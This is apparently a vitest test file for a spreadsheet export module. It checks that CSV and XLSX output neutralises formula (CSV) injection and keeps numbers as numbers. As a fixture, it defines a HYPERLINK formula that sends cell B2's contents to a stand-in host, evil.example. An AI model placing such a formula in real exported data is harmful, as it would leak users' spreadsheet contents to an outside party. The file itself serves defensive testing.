import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { decimal, neutralise, restoreNeutralised, writeCsv, writeWorkbook } from './export.js';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"詳細")';

describe('neutralise (OWASP CSV injection: text starting = + - @ tab CR gets a leading quote)', () => {
  it.each([
    [EVIL, `'${EVIL}`],
    ['=1+2', "'=1+2"],
    ['+81 3 1234', "'+81 3 1234"],
    ['-1+2', "'-1+2"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'=1", "''=1"],
    ['総務課', '総務課'],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    ["'quoted", "'quoted"],
    ['', ''],
  ])('%j → %j', (text, out) => {
    expect(neutralise(text)).toBe(out);
    expect(restoreNeutralised(neutralise(text))).toBe(text);
  });
});

const rows = [
  ['総務課', EVIL, -1, decimal(85, 1)],
  ['-1+2', 'a,"b"\nc', 0.5, null],
];

describe('writeCsv', () => {
  it('writes RFC 4180 CSV in UTF-8 with a BOM, formulas neutralised, numbers kept', () => {
    const buf = writeCsv(['組織名', '名称', '差', '率(%)'], rows);
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buf.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain('総務課,"\'=HYPERLINK(""http://evil.example/?leak=""&B2,""詳細"")",-1,85.0\r\n');
    const parsed = parse(text.slice(1)) as string[][];
    expect(parsed).toEqual([
      ['組織名', '名称', '差', '率(%)'],
      ['総務課', `'${EVIL}`, '-1', '85.0'],
      ["'-1+2", 'a,"b"\nc', '0.5', ''],
    ]);
  });
});

describe('writeWorkbook', () => {
  it('writes text cells neutralised and numbers as numbers', async () => {
    const buf = await writeWorkbook([{ name: 's', header: ['a', 'b', 'c', 'd'], rows, freezeHeader: true }]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('s')!;
    expect(ws.getRow(2).getCell(2).value).toBe(`'${EVIL}`);
    expect(ws.getRow(2).getCell(2).formula).toBeUndefined();
    expect(ws.getRow(2).getCell(3).value).toBe(-1);
    expect(ws.getRow(2).getCell(4).value).toBe(85);
    expect(ws.getRow(2).getCell(4).numFmt).toBe('0.0');
    expect(ws.getRow(3).getCell(1).value).toBe("'-1+2");
    expect(ws.getRow(1).font?.bold).toBe(true);
  });
});
